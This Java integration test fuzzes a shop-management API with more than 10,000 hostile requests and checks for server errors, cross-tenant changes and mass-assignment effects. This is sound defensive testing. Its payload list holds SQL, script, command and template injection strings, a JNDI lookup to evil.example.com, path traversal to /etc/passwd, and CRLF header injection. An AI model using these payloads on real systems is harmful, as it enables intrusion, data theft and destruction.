package dev.mechanics.it;

import static org.assertj.core.api.Assertions.assertThat;

import dev.mechanics.it.support.Api;
import dev.mechanics.it.support.Vins;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.ResultSet;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.Supplier;
import org.junit.jupiter.api.Test;

/**
 * Sends more than 10,000 generated hostile requests at every write endpoint: fuzzed JSON of the right and wrong
 * shapes, SQL and script injection strings, mass-assignment fields, huge and deeply nested bodies, invalid
 * UTF-8, path traversal and header injection. Asserts no 5xx, no change to a bystander organization's rows,
 * and that every customer the server accepted reads back exactly as sent. Seeded: a failure is reproducible.
 */
class HostileInputIT {

  private static final long SEED = Long.getLong("hostile.seed", 20261125L);
  private static final int THREADS = 8;

  private static final String[] HOSTILE = {
      "' OR '1'='1", "'; DROP TABLE customers; --", "\" OR \"\"=\"", "1; SELECT pg_sleep(5)--",
      "admin'--", "' UNION SELECT password_hash FROM users--", "%' AND 1=1 AND '%'='",
      "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "{{7*7}}",
      "${jndi:ldap://evil.example.com/a}", "#{7*7}", "../../../../etc/passwd", "..\\..\\windows\\win.ini",
      "%00", "\\u0000", "\r\nSet-Cookie: evil=1", "a\tb\nc", "ＡＢＣ", "Zoë Ñúñez", "שלום", "مرحبا", "\u202Egnp.exe",
      "\u200B\u200D\uFEFF", "😀🔧🚗", "𝕳𝖊𝖑𝖑𝖔", "null", "true", "-1", "1e309", "NaN", "[]", "{}", "\\", "\"",
      "' ; EXEC xp_cmdshell('dir') --", "$(rm -rf /)", "`id`", "|| ping -c 1 127.0.0.1", "<!--#exec cmd=\"ls\"-->",
      "x".repeat(101), "y".repeat(1000), " leading and trailing ", "ЁЖЗ", "\u0007bell", "%s%s%s%n",
  };

  private final HttpClient http = HttpClient.newBuilder()
      .version(HttpClient.Version.HTTP_1_1).connectTimeout(Duration.ofSeconds(10)).build();
  private final Map<Integer, AtomicInteger> statuses = new ConcurrentHashMap<>();
  private final ConcurrentLinkedQueue<String> serverErrors = new ConcurrentLinkedQueue<>();
  private final ConcurrentLinkedQueue<String[]> acceptedCustomers = new ConcurrentLinkedQueue<>();
  private final AtomicInteger sent = new AtomicInteger();
  private String bystanderUser;

  private record Actor(String token, String shopId, String userId, List<String> customers, List<String> vehicles,
                       List<String> staff) {
  }

  private record Target(String method, String path, int count, Generator body) {
  }

  @FunctionalInterface
  private interface Generator {
    String body(Random random, Actor actor);
  }

  @Test
  void tenThousandHostileRequestsCauseNo5xxNoStrayChangesAndNoAlteredText() throws Exception {
    Api.Tenant bystander = Api.newOrganization("bystander");
    bystander.createCustomer("Bystander", "Untouched");
    String before = fingerprint(bystander.organizationId());
    bystanderUser = bystander.request().get("/me").path("id");

    List<Actor> actors = new ArrayList<>();
    for (int i = 0; i < THREADS; i++) {
      actors.add(actor(Api.newOrganization("hostile" + i)));
    }
    String foreignCustomer = bystander.request().get("/customers").path("items[0].id");

    List<Target> targets = List.of(
        new Target("POST", "/customers", 2600, (r, a) -> customerBody(r, bystander.organizationId())),
        new Target("PUT", "/customers/{customer}", 1500, (r, a) -> customerBody(r, bystander.organizationId())),
        new Target("DELETE", "/customers/{foreignCustomer}", 150, (r, a) -> null),
        new Target("POST", "/vehicles", 1500, (r, a) -> vehicleBody(r, a, foreignCustomer)),
        new Target("PUT", "/vehicles/{vehicle}", 800, (r, a) -> vehicleBody(r, a, foreignCustomer)),
        new Target("POST", "/shops", 550, (r, a) -> shopBody(r)),
        new Target("PUT", "/shops/{shop}", 550, (r, a) -> shopBody(r)),
        new Target("POST", "/users", 800, (r, a) -> userBody(r, a, bystander)),
        new Target("POST", "/users/{staff}/memberships", 500, (r, a) -> fuzzObject(r, Map.of(
            "shopId", () -> pick(r, a.shopId(), bystander.shopId(), "not-a-uuid"),
            "role", () -> pick(r, "OWNER", "TECHNICIAN", "SERVICE_ADVISOR", "ROOT", "owner")))),
        new Target("DELETE", "/users/{staff}/memberships/{foreignShop}", 150, (r, a) -> null),
        new Target("POST", "/users/{foreignUser}/disable", 150, (r, a) -> null),
        new Target("POST", "/organizations", 300, (r, a) -> fuzzObject(r, Map.of(
            "organizationName", () -> text(r), "shopName", () -> text(r), "timeZone", () -> pick(r, "UTC",
                "Mars/Olympus", "../etc"), "currency", () -> pick(r, "USD", "XXXX", "us"), "ownerName", () -> text(r),
            "ownerEmail", () -> pick(r, "x-" + UUID.randomUUID() + "@example.com", text(r)),
            "ownerPassword", () -> pick(r, "password1234", "short", "long enough pass " + r.nextInt())))),
        new Target("POST", "/auth/login", 250, (r, a) -> fuzzObject(r, Map.of(
            "email", () -> pick(r, text(r), "owner@demo.mechanics.dev' --", "nobody@example.com"),
            "password", () -> text(r)))),
        new Target("POST", "/auth/refresh", 300, (r, a) -> fuzzObject(r, Map.of("refreshToken", () -> text(r)))),
        new Target("POST", "/auth/password", 150, (r, a) -> fuzzObject(r, Map.of(
            "currentPassword", () -> text(r), "newPassword", () -> text(r)))));
    int planned = targets.stream().mapToInt(Target::count).sum();

    ExecutorService pool = Executors.newFixedThreadPool(THREADS);
    List<Future<?>> work = new ArrayList<>();
    for (int t = 0; t < THREADS; t++) {
      Actor actor = actors.get(t);
      Random random = new Random(SEED + t);
      int slice = t;
      work.add(pool.submit(() -> {
        for (Target target : targets) {
          int share = target.count() / THREADS + (slice < target.count() % THREADS ? 1 : 0);
          for (int i = 0; i < share; i++) {
            String body = target.body().body(random, actor);
            String path = resolve(target.path(), random, actor, bystander, foreignCustomer);
            if (random.nextInt(20) == 0 && body != null) {
              body = breakSyntax(random, body);
            }
            send(target.method(), path, body, actor, random, target.path().startsWith("/auth/login")
                || target.path().startsWith("/organizations") || target.path().startsWith("/auth/refresh"));
          }
        }
        return null;
      }));
    }
    for (Future<?> f : work) {
      f.get();
    }
    pool.shutdown();
    int extra = structuralAttacks(actors.get(0), foreignCustomer);

    System.out.println("[HostileInputIT] sent " + sent.get() + " hostile requests (" + planned + " fuzzed + "
        + extra + " structural); statuses " + new java.util.TreeMap<>(statuses));
    assertThat(sent.get()).isGreaterThanOrEqualTo(10_000);
    assertThat(serverErrors).as("5xx answers").isEmpty();
    assertThat(fingerprint(bystander.organizationId())).as("the bystander organization's rows").isEqualTo(before);
    assertMassAssignmentHadNoEffect(actors, bystander.organizationId());
    assertAcceptedTextReadsBackExactly(actors);
  }

  // ---- generators ----------------------------------------------------------------------------------------

  private static String pick(Random r, String... options) {
    return options[r.nextInt(options.length)];
  }

  private static String text(Random r) {
    return switch (r.nextInt(4)) {
      case 0 -> HOSTILE[r.nextInt(HOSTILE.length)];
      case 1 -> HOSTILE[r.nextInt(HOSTILE.length)] + " " + HOSTILE[r.nextInt(HOSTILE.length)];
      case 2 -> randomUnicode(r, 1 + r.nextInt(40));
      default -> "Name " + r.nextInt(100000);
    };
  }

  private static String randomUnicode(Random r, int length) {
    StringBuilder s = new StringBuilder();
    for (int i = 0; i < length; i++) {
      int cp = switch (r.nextInt(5)) {
        case 0 -> 0x20 + r.nextInt(0x5F);
        case 1 -> 0xA0 + r.nextInt(0x700);
        case 2 -> 0x1F300 + r.nextInt(0x300);
        case 3 -> r.nextInt(0x20);
        default -> 0x4E00 + r.nextInt(0x5000);
      };
      s.appendCodePoint(cp);
    }
    return s.toString();
  }

  /** A JSON value of a random type: what a client that ignores the schema sends. */
  private static String wrongType(Random r) {
    return pick(r, "123", "-1.5e300", "true", "null", "[]", "[1,2,3]", "{}", "{\"a\":{\"b\":[null]}}", "\"\"");
  }

  private static final String[] MASS_ASSIGNMENT = {"organizationId", "organization_id", "id", "version", "role",
      "roles", "enabled", "passwordHash", "createdAt", "userId", "isAdmin", "groups", "__proto__", "constructor"};

  private static String fuzzObject(Random r, Map<String, Supplier<String>> fields) {
    StringBuilder json = new StringBuilder("{");
    for (Map.Entry<String, Supplier<String>> field : new java.util.TreeMap<>(fields).entrySet()) {
      int choice = r.nextInt(10);
      if (choice == 0) {
        continue; // missing
      }
      if (json.length() > 1) {
        json.append(',');
      }
      json.append(quote(field.getKey())).append(':')
          .append(choice == 1 ? wrongType(r) : quote(field.getValue().get()));
    }
    if (r.nextInt(3) == 0) {
      String name = MASS_ASSIGNMENT[r.nextInt(MASS_ASSIGNMENT.length)];
      json.append(json.length() > 1 ? "," : "").append(quote(name)).append(':')
          .append(pick(r, "\"" + UUID.randomUUID() + "\"", "\"OWNER\"", "999", "true", "{\"polluted\":true}"));
    }
    return json.append('}').toString();
  }

  private static String customerBody(Random r, String foreignOrg) {
    String json = fuzzObject(r, Map.of("firstName", () -> text(r), "lastName", () -> text(r),
        "email", () -> pick(r, "a" + r.nextInt(1000) + "@example.com", text(r)),
        "phone", () -> pick(r, "+1 555 010 " + (1000 + r.nextInt(9000)), text(r)), "address", () -> text(r)));
    if (r.nextInt(4) == 0) {
      json = json.substring(0, json.length() - 1) + (json.length() > 2 ? "," : "")
          + "\"organizationId\":\"" + foreignOrg + "\",\"version\":7,\"id\":\"" + UUID.randomUUID() + "\"}";
    }
    return json;
  }

  private static String vehicleBody(Random r, Actor a, String foreignCustomer) {
    return fuzzObject(r, Map.of(
        "customerId", () -> pick(r, a.customers().get(r.nextInt(a.customers().size())), foreignCustomer,
            "00000000-0000-0000-0000-000000000000", text(r)),
        "vin", () -> pick(r, Vins.random(), text(r), "1HGCM82633A004352"),
        "plate", () -> text(r), "make", () -> text(r), "model", () -> text(r)));
  }

  private static String shopBody(Random r) {
    return fuzzObject(r, Map.of("name", () -> pick(r, "Shop " + UUID.randomUUID(), text(r)),
        "timeZone", () -> pick(r, "UTC", "Europe/Paris", text(r)), "phone", () -> text(r),
        "address", () -> text(r), "laborRate", () -> pick(r, "145.00", "-1", "1e9", "abc", "0.001")));
  }

  private static String userBody(Random r, Actor a, Api.Tenant bystander) {
    String json = fuzzObject(r, Map.of("email", () -> pick(r, "u-" + UUID.randomUUID() + "@example.com", text(r)),
        "name", () -> text(r), "password", () -> pick(r, "password1234", text(r), "decent passphrase " + r.nextInt())));
    String memberships = pick(r, "[]", "[{\"shopId\":\"" + a.shopId() + "\",\"role\":\"TECHNICIAN\"}]",
        "[{\"shopId\":\"" + bystander.shopId() + "\",\"role\":\"OWNER\"}]", "\"OWNER\"", "[null]",
        "[{\"shopId\":\"" + a.shopId() + "\",\"role\":\"GOD\"}]");
    return json.substring(0, json.length() - 1) + (json.length() > 2 ? "," : "") + "\"memberships\":" + memberships
        + (r.nextBoolean() ? ",\"role\":\"OWNER\",\"organizationId\":\"" + bystander.organizationId() + "\"" : "") + "}";
  }

  private static String breakSyntax(Random r, String body) {
    return switch (r.nextInt(5)) {
      case 0 -> body.substring(0, r.nextInt(Math.max(1, body.length())));
      case 1 -> body.replace(":", "::");
      case 2 -> body + "}}}";
      case 3 -> "[" + body + ",]";
      default -> body.replace("\"", "'");
    };
  }

  private static String quote(String s) {
    StringBuilder out = new StringBuilder("\"");
    for (char c : s.toCharArray()) {
      switch (c) {
        case '"' -> out.append("\\\"");
        case '\\' -> out.append("\\\\");
        default -> {
          if (c < 0x20) {
            out.append(String.format("\\u%04x", (int) c));
          } else {
            out.append(c);
          }
        }
      }
    }
    return out.append('"').toString();
  }

  // ---- sending -------------------------------------------------------------------------------------------

  private String resolve(String template, Random r, Actor a, Api.Tenant bystander, String foreignCustomer) {
    return template.replace("{customer}", pick(r, a.customers().get(r.nextInt(a.customers().size())),
            a.customers().get(0), "not-an-id", "../../etc/passwd", "%2e%2e%2f%2e%2e"))
        .replace("{foreignCustomer}", foreignCustomer)
        .replace("{vehicle}", a.vehicles().get(r.nextInt(a.vehicles().size())))
        .replace("{shop}", pick(r, a.shopId(), bystander.shopId(), "x"))
        .replace("{staff}", pick(r, a.staff().get(r.nextInt(a.staff().size())), a.userId()))
        .replace("{foreignShop}", bystander.shopId())
        .replace("{foreignUser}", pick(r, bystanderUser, a.userId()));
  }

  private void send(String method, String path, String body, Actor actor, Random r, boolean signIn) {
    HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(Api.baseUrl() + "/api/v1" + path))
        .timeout(Duration.ofSeconds(60))
        .header("X-Forwarded-For", Api.randomClientAddress())
        .header("X-Request-Id", pick(r, "hostile-" + UUID.randomUUID(), "<script>", "a".repeat(300), "' OR 1=1"));
    if (!signIn) {
      request.header("Authorization", "Bearer " + actor.token());
    }
    if (path.startsWith("/customers/") || path.startsWith("/vehicles/") || path.startsWith("/shops/")) {
      request.header("If-Match", pick(r, "\"0\"", "\"1\"", "*", "W/\"x\"", "\"99999999999999999999\""));
    }
    HttpRequest.BodyPublisher publisher = body == null ? HttpRequest.BodyPublishers.noBody()
        : HttpRequest.BodyPublishers.ofString(body, StandardCharsets.UTF_8);
    request.header("Content-Type", r.nextInt(30) == 0 ? "text/plain" : "application/json");
    record(method + " " + path, body, request.method(method, publisher).build());
  }

  private void record(String what, String body, HttpRequest request) {
    try {
      // a request that never gets an answer is a failure to report, not a build that hangs until CI kills it
      HttpResponse<String> response = http.sendAsync(request, HttpResponse.BodyHandlers.ofString())
          .get(3, java.util.concurrent.TimeUnit.MINUTES);
      sent.incrementAndGet();
      statuses.computeIfAbsent(response.statusCode(), s -> new AtomicInteger()).incrementAndGet();
      if (response.statusCode() >= 500) {
        serverErrors.add(response.statusCode() + " " + what + " " + abbreviate(body) + " -> "
            + abbreviate(response.body()));
      }
      if (response.statusCode() == 201 && what.equals("POST /customers")) {
        String id = response.headers().firstValue("Location").map(l -> l.substring(l.lastIndexOf('/') + 1))
            .orElseThrow();
        acceptedCustomers.add(new String[] {id, body});
      }
    } catch (java.util.concurrent.ExecutionException | java.util.concurrent.TimeoutException e) {
      sent.incrementAndGet();
      serverErrors.add("no answer for " + what + ": " + e);
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
    }
  }

  private static String abbreviate(String s) {
    return s == null ? "" : s.length() > 300 ? s.substring(0, 300) + "..." : s;
  }

  /** Huge and deeply nested bodies, invalid UTF-8, path traversal and raw header injection. */
  private int structuralAttacks(Actor actor, String foreignCustomer) throws Exception {
    int before = sent.get();
    String[] writePaths = {"/customers", "/vehicles", "/shops", "/users", "/organizations", "/auth/login"};
    for (String path : writePaths) {
      String huge = "{\"firstName\":\"" + "A".repeat(2_000_000) + "\"}";
      rawJson(path, huge.getBytes(StandardCharsets.UTF_8), actor);
      rawJson(path, ("[".repeat(100_000) + "]".repeat(100_000)).getBytes(StandardCharsets.UTF_8), actor);
      rawJson(path, ("{\"a\":".repeat(5_000) + "1" + "}".repeat(5_000)).getBytes(StandardCharsets.UTF_8), actor);
      rawJson(path, ("{\"firstName\":" + "[".repeat(3_000) + "]".repeat(3_000) + "}").getBytes(StandardCharsets.UTF_8),
          actor);
      rawJson(path, new byte[] {'{', '"', 'f', 'i', 'r', 's', 't', 'N', 'a', 'm', 'e', '"', ':', '"', (byte) 0xC3,
          (byte) 0x28, (byte) 0xFF, (byte) 0xFE, '"', '}'}, actor);
      rawJson(path, "{\"firstName\":\"\\ud800\",\"lastName\":\"x\"}".getBytes(StandardCharsets.UTF_8), actor);
      rawJson(path, "{\"firstName\":\"a\\u0000b\",\"lastName\":\"x\"}".getBytes(StandardCharsets.UTF_8), actor);
      rawJson(path, new byte[0], actor);
      rawJson(path, "\u0000\u0001\u0002".getBytes(StandardCharsets.UTF_8), actor);
    }
    String[] traversal = {"/customers/..%2f..%2f..%2fetc%2fpasswd", "/customers/%2e%2e/%2e%2e/users",
        "/customers/..;/users", "/customers/" + foreignCustomer + "/../../users", "/vehicles/%00",
        "/shops/%c0%ae%c0%ae/", "/users/..%5c..%5cwindows", "/customers/%252e%252e%252f"};
    for (String path : traversal) {
      for (String method : new String[] {"PUT", "DELETE", "POST"}) {
        HttpRequest request = HttpRequest.newBuilder(URI.create(Api.baseUrl() + "/api/v1" + path))
            .header("Authorization", "Bearer " + actor.token()).header("Content-Type", "application/json")
            .header("If-Match", "\"0\"").method(method, HttpRequest.BodyPublishers.ofString("{\"firstName\":\"x\"}"))
            .build();
        record(method + " " + path, "{}", request);
      }
    }
    for (String injected : new String[] {"x\r\nSet-Cookie: evil=1", "x\r\n\r\nHTTP/1.1 200 OK", "x\nX-Evil: 1",
        "x\rLocation: http://evil.example.com"}) {
      rawHeader(actor, injected);
    }
    return sent.get() - before;
  }

  private void rawJson(String path, byte[] body, Actor actor) {
    HttpRequest request = HttpRequest.newBuilder(URI.create(Api.baseUrl() + "/api/v1" + path))
        .timeout(Duration.ofSeconds(60))
        .header("X-Forwarded-For", Api.randomClientAddress())
        .header("Authorization", "Bearer " + actor.token()).header("Content-Type", "application/json")
        .POST(HttpRequest.BodyPublishers.ofByteArray(body)).build();
    record("POST " + path + " (structural)", new String(body, 0, Math.min(body.length, 100),
        StandardCharsets.ISO_8859_1), request);
  }

  /** java.net.http refuses CR/LF in headers, as it should; a raw socket sends what an attacker would. */
  private void rawHeader(Actor actor, String value) throws Exception {
    URI base = URI.create(Api.baseUrl());
    try (Socket socket = new Socket(base.getHost(), base.getPort())) {
      socket.setSoTimeout(10_000);
      String body = "{\"firstName\":\"Header\",\"lastName\":\"Injection\"}";
      String request = "POST /api/v1/customers HTTP/1.1\r\nHost: " + base.getHost() + "\r\n"
          + "Authorization: Bearer " + actor.token() + "\r\nContent-Type: application/json\r\n"
          + "X-Request-Id: " + value + "\r\nContent-Length: " + body.length() + "\r\nConnection: close\r\n\r\n" + body;
      OutputStream out = socket.getOutputStream();
      out.write(request.getBytes(StandardCharsets.ISO_8859_1));
      out.flush();
      InputStream in = socket.getInputStream();
      String response = new String(in.readAllBytes(), StandardCharsets.ISO_8859_1);
      sent.incrementAndGet();
      int status = response.length() > 12 ? Integer.parseInt(response.substring(9, 12)) : 0;
      statuses.computeIfAbsent(status, s -> new AtomicInteger()).incrementAndGet();
      String head = response.contains("\r\n\r\n") ? response.substring(0, response.indexOf("\r\n\r\n")) : response;
      if (status >= 500 || status == 0) {
        serverErrors.add(status + " raw header injection " + abbreviate(value));
      }
      assertThat(head.toLowerCase()).doesNotContain("set-cookie: evil", "x-evil", "location: http://evil");
    }
  }

  // ---- checks ----------------------------------------------------------------------------------------------

  private Actor actor(Api.Tenant tenant) {
    List<String> customers = new ArrayList<>();
    List<String> vehicles = new ArrayList<>();
    for (int i = 0; i < 3; i++) {
      String customer = tenant.createCustomer("Seed" + i, "Customer");
      customers.add(customer);
      vehicles.add(tenant.request().body(Map.of("customerId", customer, "vin", Vins.random())).post("/vehicles")
          .then().statusCode(201).extract().path("id"));
    }
    List<String> staff = new ArrayList<>();
    for (int i = 0; i < 2; i++) {
      staff.add(tenant.request().body(Map.of("email", "staff-" + UUID.randomUUID() + "@hostile.example.com",
              "name", "Staff", "password", "seed staff passphrase",
              "memberships", List.of(Map.of("shopId", tenant.shopId(), "role", "TECHNICIAN"))))
          .post("/users").then().statusCode(201).extract().path("id"));
    }
    String me = tenant.request().get("/me").path("id");
    return new Actor(tenant.token(), tenant.shopId(), me, customers, vehicles, staff);
  }

  /** Every row of one organization, as text: any change to any of them changes the digest. */
  private static String fingerprint(String organizationId) throws Exception {
    StringBuilder all = new StringBuilder();
    try (Connection db = Api.database()) {
      for (String table : new String[] {"organizations", "shops", "users", "memberships", "customers", "vehicles",
          "sessions", "audit_events"}) {
        String column = table.equals("organizations") ? "id" : "organization_id";
        String sql = "select coalesce(md5(string_agg(t::text, '|' order by t.id)), '') from " + table
            + " t where " + column + " = ?::uuid";
        if (table.equals("users")) {
          // sign-in bookkeeping (failed counts, lockouts) may change; the account itself may not
          sql = "select coalesce(md5(string_agg(concat_ws(',', id, email, name, password_hash, enabled, version), '|'"
              + " order by id)), '') from users where organization_id = ?::uuid";
        }
        if (table.equals("audit_events")) {
          // the sealer links rows into the chain in its own time (ADR 0050): the rows' content may not change
          sql = "select coalesce(md5(string_agg(concat_ws(',', id, action, entity_type, entity_id, before_state, "
              + "after_state, occurred_at), '|' order by id)), '') from audit_events where organization_id = ?::uuid";
        }
        if (table.equals("sessions")) {
          sql = "select count(*)::text from sessions where organization_id = ?::uuid and revoked_at is not null";
        }
        try (var st = db.prepareStatement(sql)) {
          st.setString(1, organizationId);
          ResultSet rs = st.executeQuery();
          rs.next();
          all.append(table).append('=').append(rs.getString(1)).append(';');
        }
      }
    }
    return all.toString();
  }

  private static void assertMassAssignmentHadNoEffect(List<Actor> actors, String bystanderOrg) throws Exception {
    try (Connection db = Api.database(); var st = db.prepareStatement("""
        select count(*) from memberships m join users u on u.id = m.user_id
        where m.role = 'OWNER' and u.email like '%@example.com' and u.email like 'u-%'""")) {
      ResultSet rs = st.executeQuery();
      rs.next();
      assertThat(rs.getInt(1)).as("users created through the API with a forged role field").isZero();
    }
    try (Connection db = Api.database(); var st = db.prepareStatement(
        "select count(*) from customers where organization_id = ?::uuid")) {
      st.setString(1, bystanderOrg);
      ResultSet rs = st.executeQuery();
      rs.next();
      assertThat(rs.getInt(1)).as("customers planted into the bystander organization").isEqualTo(1);
    }
  }

  private void assertAcceptedTextReadsBackExactly(List<Actor> actors) throws Exception {
    assertThat(acceptedCustomers).as("some hostile-but-valid customers were accepted").isNotEmpty();
    com.fasterxml.jackson.databind.ObjectMapper json = new com.fasterxml.jackson.databind.ObjectMapper();
    int checked = 0;
    for (String[] accepted : acceptedCustomers) {
      if (checked++ >= 400) {
        break;
      }
      @SuppressWarnings("unchecked")
      Map<String, Object> sentBody = json.readValue(accepted[1], Map.class);
      String stored = null;
      for (Actor actor : actors) {
        HttpResponse<String> r = http.send(HttpRequest.newBuilder(URI.create(Api.baseUrl() + "/api/v1/customers/"
            + accepted[0])).header("Authorization", "Bearer " + actor.token()).build(),
            HttpResponse.BodyHandlers.ofString());
        if (r.statusCode() == 200) {
          stored = r.body();
          break;
        }
        if (r.statusCode() != 404) {
          throw new AssertionError("GET customer answered " + r.statusCode());
        }
      }
      if (stored == null) {
        continue; // deleted again by a later fuzzed request of its own organization
      }
      @SuppressWarnings("unchecked")
      Map<String, Object> read = json.readValue(stored, Map.class);
      for (String field : new String[] {"firstName", "lastName", "address"}) {
        Object value = sentBody.get(field);
        if (value instanceof String s && !s.isBlank()) {
          assertThat(read.get(field)).as(field + " of " + accepted[0]).isEqualTo(s.trim());
        }
      }
    }
  }
}
